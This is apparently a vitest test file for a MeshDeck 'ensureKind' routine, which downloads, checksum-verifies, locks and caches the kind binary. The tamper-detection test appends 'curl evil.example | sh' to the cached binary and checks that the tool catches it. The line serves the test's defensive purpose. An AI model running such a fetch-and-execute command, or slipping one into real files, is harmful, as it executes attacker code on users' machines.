// ensureKind against the test world's release mirror, each test with its own MESHDECK_HOME.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { appendFile, chmod, chown, mkdir, mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startMirror, type Mirror } from '../../test/world/mirror/index';
import { appDataDir, toolsDir } from '../paths';
import { exec } from '../exec';
import { ensureKind, type EnsureKindOptions } from './ensure-kind';
import { withLock } from './file-lock';
import type { ToolProgressEvent } from './progress';
import { kindAsset } from './releases';
import { toolDeps } from './tool-deps';
import { cachedKindPath, kindVersionDir } from './tool-paths';

let mirror: Mirror;
let home: string;
let dataDir: string;
const asset = kindAsset('linux', 'amd64', '')!;
const sha = (data: Buffer): string => createHash('sha256').update(data).digest('hex');
const kindGets = () => mirror.requests.filter((r) => r.method === 'GET' && r.path === asset.url);

beforeAll(async () => {
  mirror = await startMirror();
});
afterAll(async () => {
  await mirror.stop();
});
beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'meshdeck-home-'));
  dataDir = appDataDir({ MESHDECK_HOME: home });
  mirror.knobs.reset();
  mirror.requests.length = 0;
});
afterEach(async () => {
  await rm(home, { recursive: true, force: true });
});

function options(overrides: Partial<EnsureKindOptions> = {}): EnsureKindOptions {
  return { dataDir, mirror: mirror.url, platform: 'linux', arch: 'x64', retry: { baseDelayMs: 1, maxDelayMs: 5 }, ...overrides };
}

describe('ensureKind', () => {
  it('downloads, verifies and caches an executable kind that runs', async () => {
    const events: ToolProgressEvent[] = [];
    const path = await ensureKind(options({ onProgress: (event) => events.push(event) }));
    expect(path).toBe(cachedKindPath(dataDir, 'linux'));
    expect(path).toBe(join(home, 'tools', 'kind', 'v0.32.0', 'kind'));
    const body = await mirror.body(asset.url);
    expect(sha(await readFile(path))).toBe(sha(body));
    expect((await stat(path)).mode & 0o777).toBe(0o755);
    expect(await readdir(kindVersionDir(dataDir))).toEqual(['kind', 'meshdeck-verified.json']);
    expect(JSON.parse(await readFile(join(kindVersionDir(dataDir), 'meshdeck-verified.json'), 'utf8')).files).toEqual({ kind: sha(body) });
    expect(events.map((e) => e.phase)).toContain('verify');
    expect((await exec(path, ['version'])).stdout).toMatch(/^kind v0\.32\.0 go/);

    // Cached: the second call downloads nothing.
    await ensureKind(options());
    expect(kindGets()).toHaveLength(1);
  });

  it('runs one download for two calls at once', async () => {
    const [a, b] = await Promise.all([ensureKind(options()), ensureKind(options())]);
    expect(a).toBe(b);
    expect(kindGets()).toHaveLength(1);
    expect(mirror.requests.filter((r) => r.path === asset.checksumUrl)).toHaveLength(1);
  });

  it('refuses a corrupted download with CHECKSUM_MISMATCH and leaves nothing in the cache', async () => {
    mirror.knobs.corrupt(asset.fileName);
    await expect(ensureKind(options())).rejects.toMatchObject({ code: 'CHECKSUM_MISMATCH', message: expect.stringContaining('deleted it') });
    expect(await readdir(kindVersionDir(dataDir))).toEqual([]);
    expect(await readdir(join(toolsDir(dataDir), 'kind'))).toEqual(['v0.32.0']);
  });

  it('says kind has no build at the URL on a 404', async () => {
    mirror.knobs.notFound(asset.fileName);
    await expect(ensureKind(options())).rejects.toMatchObject({
      code: 'NOT_FOUND',
      message: expect.stringMatching(new RegExp(`^kind v0\\.32\\.0 has no file at ${mirror.url}${asset.url} \\(HTTP 404\\)\\. Check MESHDECK_MIRROR`)),
    });
  });

  it('cancels at once on a slow link, keeps the partial file, and the next call resumes it', async () => {
    mirror.knobs.slow(100);
    const controller = new AbortController();
    const first = ensureKind(options({
      signal: controller.signal,
      onProgress: (event) => {
        if (event.phase === 'download' && event.bytesDone >= 20) controller.abort();
      },
    }));
    const abortedAt = await new Promise<number>((resolve) => controller.signal.addEventListener('abort', () => resolve(performance.now())));
    await expect(first).rejects.toMatchObject({ code: 'CANCELLED' });
    expect(performance.now() - abortedAt).toBeLessThan(100);
    const part = `${cachedKindPath(dataDir, 'linux')}.part`;
    await new Promise((resolve) => setTimeout(resolve, 50));
    const kept = (await stat(part)).size;
    expect(kept).toBeGreaterThanOrEqual(20);

    mirror.knobs.slow(undefined);
    const path = await ensureKind(options());
    expect(sha(await readFile(path))).toBe(sha(await mirror.body(asset.url)));
    expect(kindGets().at(-1)).toMatchObject({ range: `bytes=${kept}-`, status: 206 });
  });

  it('waits while another process holds the cache lock, then downloads once', async () => {
    const repo = resolve(import.meta.dirname, '..', '..');
    await mkdir(join(toolsDir(dataDir), 'kind'), { recursive: true, mode: 0o700 });
    let release!: () => void;
    const holding = withLock(`${kindVersionDir(dataDir)}.lock`, toolDeps(), {}, () => new Promise<void>((done) => (release = done)));
    const script = join(home, 'other-meshdeck.mts');
    await writeFile(script, [
      `import { ensureKind } from ${JSON.stringify(join(repo, 'core', 'tools', 'index.ts'))};`,
      `const path = await ensureKind({ dataDir: ${JSON.stringify(dataDir)}, mirror: ${JSON.stringify(mirror.url)}, platform: 'linux', arch: 'x64', log: (line) => console.log(line) });`,
      `console.log('READY ' + path);`,
    ].join('\n'));
    const child = spawn(process.execPath, ['--import', pathToFileURL(join(repo, 'node_modules', 'tsx', 'dist', 'loader.mjs')).href, script], { stdio: ['ignore', 'pipe', 'inherit'] });
    let output = '';
    const waiting = new Promise<void>((resolved) => child.stdout.on('data', (chunk: Buffer) => {
      output += chunk.toString();
      if (output.includes(`Waiting for another MeshDeck (pid ${process.pid})`)) resolved();
    }));
    const exited = new Promise<number | null>((resolved) => child.on('close', resolved));
    await Promise.race([waiting, exited.then((code) => Promise.reject(new Error(`the other process exited (${code}) without waiting: ${output}`)))]);
    expect(kindGets()).toHaveLength(0);
    release();
    await holding;
    expect(await exited).toBe(0);
    expect(output).toContain(`READY ${cachedKindPath(dataDir, 'linux')}`);
    expect(kindGets()).toHaveLength(1);
  });

  it('detects a tampered cached binary and replaces it with a verified copy', async () => {
    const path = await ensureKind(options());
    await appendFile(path, '\ncurl evil.example | sh\n');
    const log: string[] = [];
    await ensureKind(options({ log: (line) => log.push(line) }));
    expect(log.join('\n')).toMatch(/no longer matches the SHA-256 recorded/);
    expect(sha(await readFile(path))).toBe(sha(await mirror.body(asset.url)));
    expect(kindGets()).toHaveLength(2);
  });

  it('keeps the cache folders private, tightening ones that others can write', async () => {
    await ensureKind(options());
    const dirs = [home, toolsDir(dataDir), join(toolsDir(dataDir), 'kind'), kindVersionDir(dataDir)];
    for (const dir of dirs) expect((await stat(dir)).mode & 0o777, dir).toBe(0o700);
    await chmod(toolsDir(dataDir), 0o777);
    await chmod(kindVersionDir(dataDir), 0o775);
    await ensureKind(options());
    for (const dir of dirs) expect((await stat(dir)).mode & 0o777, dir).toBe(0o700);
  });

  it.runIf(process.getuid?.() === 0)('refuses a cache folder that belongs to another user', async () => {
    await ensureKind(options());
    await chown(toolsDir(dataDir), 4242, 4242);
    await expect(ensureKind(options())).rejects.toMatchObject({ code: 'INVALID_ARGUMENT', message: expect.stringContaining('belongs to another user') });
  });

  it('uses a user-chosen kind of the right version as is, and refuses another version', async () => {
    const fake = async (name: string, script: string) => {
      const path = join(home, name);
      await writeFile(path, `#!/bin/sh\n${script}\n`, { mode: 0o755 });
      return path;
    };
    const right = await fake('kind-right', 'echo "kind v0.32.0 go1.25.5 linux/amd64"');
    expect(await ensureKind(options({ kindPath: right }))).toBe(right);
    const log: string[] = [];
    const patch = await fake('kind-patch', 'echo "kind v0.32.1 go1.25.5 linux/amd64"');
    expect(await ensureKind(options({ kindPath: patch, log: (line) => log.push(line) }))).toBe(patch);
    expect(log).toEqual([expect.stringContaining('only the patch number differs')]);
    const wrong = await fake('kind-wrong', 'echo "kind v0.27.0 go1.23.1 linux/amd64"');
    await expect(ensureKind(options({ kindPath: wrong }))).rejects.toMatchObject({ code: 'INVALID_ARGUMENT', message: expect.stringContaining('is kind 0.27.0, but MeshDeck needs 0.32.0') });
    const broken = await fake('kind-broken', 'echo "segfault" >&2; exit 2');
    await expect(ensureKind(options({ kindPath: broken }))).rejects.toMatchObject({ code: 'COMMAND_FAILED', message: expect.stringContaining('does not run') });
    await expect(ensureKind(options({ kindPath: join(home, 'nope') }))).rejects.toMatchObject({ code: 'COMMAND_FAILED' });
    expect(kindGets()).toHaveLength(0);
  });
});
